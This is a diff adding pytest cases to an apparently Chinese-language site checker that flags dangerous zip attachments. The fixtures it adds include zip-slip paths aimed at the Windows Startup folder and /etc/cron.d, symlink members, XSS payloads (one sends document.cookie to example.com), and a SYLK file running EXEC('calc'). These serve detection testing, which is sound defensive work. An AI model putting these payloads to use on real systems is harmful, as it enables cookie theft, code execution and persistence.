@@ -102,6 +102,9 @@ _MACROS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".enco
     ({"名单.lnk": b"L\0\0\0\1\x14\2\0"}, "名单.lnk"),
     ({"表/汇总.xlsm": b"PK\3\4"}, "汇总.xlsm"),
     ({"通知.doc": _MACROS}, "压缩包内“通知.doc”中的宏（VBA）"),
+    ({"会议记录.one": b"\xe4\x52\x5c\x7b"}, "会议记录.one"),
+    ({"查询.iqy": b"WEB\n1\nhttp://example.com/x\n"}, "查询.iqy"),
+    ({"安装.msi": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)}, "安装.msi"),
 ])
 def test_a_program_a_script_or_a_macro_in_a_zip_is_an_error(site, members, said):
     """Windows runs a .js, a .lnk or a program in a zip on a double click, and Word runs a document's macros: an
@@ -131,3 +134,72 @@ def test_documents_and_tables_in_a_zip_pass(site):
     site.attach("a.zip", office_zip({"通知.docx": docx_with("正文", "无"), "名单.pdf": pdf_with_text("x"), "表.csv": b"a,b\n"}))
     site.item(attachments=[{"title": "材料", "file": "a.zip"}])
     assert site.problems(privacy.SCRIPT.code) == []
+
+
+def _zip_of(*members: zipfile.ZipInfo) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for member in members:
+            archive.writestr(member, "正文")
+    return out.getvalue()
+
+
+def _link(name: str) -> zipfile.ZipInfo:
+    member = zipfile.ZipInfo(name)
+    member.create_system = 3
+    member.external_attr = (0o120777 << 16)
+    return member
+
+
+@pytest.mark.parametrize(("member", "said"), [
+    (zipfile.ZipInfo("../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.txt"), "“../../AppData"),
+    (zipfile.ZipInfo("材料/..\\..\\a.txt"), "材料/..\\..\\a.txt"),
+    (zipfile.ZipInfo("/etc/cron.d/a"), "“/etc/cron.d/a”"),
+    (zipfile.ZipInfo("C:/Users/Public/a.txt"), "“C:/Users/Public/a.txt”"),
+    (_link("桌面"), "“桌面”（解压后是指向别处的链接）"),
+])
+def test_a_member_that_unzips_outside_its_folder_is_an_error(site, member, said):
+    """Older and careless unzip tools write `../` names, absolute paths and drive paths where they say, and follow
+    a member that is a link: a zip published for the public writes only into the folder it is unzipped into."""
+    site.attach("a.zip", _zip_of(zipfile.ZipInfo("说明.txt"), member))
+    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
+    [problem] = site.problems(privacy.SCRIPT.code)
+    assert said in problem.message and problem.is_error
+
+
+def test_dots_and_folders_inside_names_pass(site):
+    site.attach("a.zip", _zip_of(zipfile.ZipInfo("材料/名单..备份.txt"), zipfile.ZipInfo("材料/.说明/a.txt"),
+                                 zipfile.ZipInfo("...txt")))
+    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
+    assert site.problems(privacy.SCRIPT.code) == []
+
+
+@pytest.mark.parametrize("page", [
+    "<p>名单</p><script>location='http://example.com/?'+document.cookie</script>",
+    '<img src="x" oNeRrOr="fetch(1)">',
+    '<a href=" jav&#x09;ascript:alert(1)">名单</a>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)"><text>名单</text></a></svg>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+])
+def test_a_page_with_script_in_a_zip_is_an_error(site, page):
+    """A page unzipped and opened runs its script in the reader's browser (and a page's script is how files are
+    smuggled past a mail filter): GK317, however the script is spelled."""
+    site.attach("a.zip", office_zip({"名单.html": page.encode()}))
+    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
+    [problem] = site.problems(privacy.SCRIPT.code)
+    assert "网页中的脚本" in problem.message
+
+
+def test_a_page_without_script_in_a_zip_passes(site):
+    page = '<details open><summary>名单</summary><a href="https://www.gov.cn/">链接</a><p title="onload">正文</p></details>'
+    site.attach("a.zip", office_zip({"名单.html": page.encode(), "图.svg": b'<svg xmlns="http://www.w3.org/2000/svg"/>'}))
+    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
+    assert site.problems(privacy.SCRIPT.code) == []
+
+
+def test_a_table_excel_opens_as_sylk_in_a_zip_is_an_error(site):
+    """Excel opens a table beginning "ID;" as SYLK, whose cells may run Excel 4.0 macro formulas (GK315)."""
+    site.attach("a.zip", office_zip({"名单.csv": b'ID;P\r\nC;Y1;X1;EEXEC("calc")\r\nE\r\n', "表.csv": b"ID,name\n1,a\n"}))
+    site.item(attachments=[{"title": "材料", "file": "a.zip"}])
+    [problem] = site.problems(privacy.FORMULA.code)
+    assert "名单.csv" in problem.message and "SYLK" in problem.message
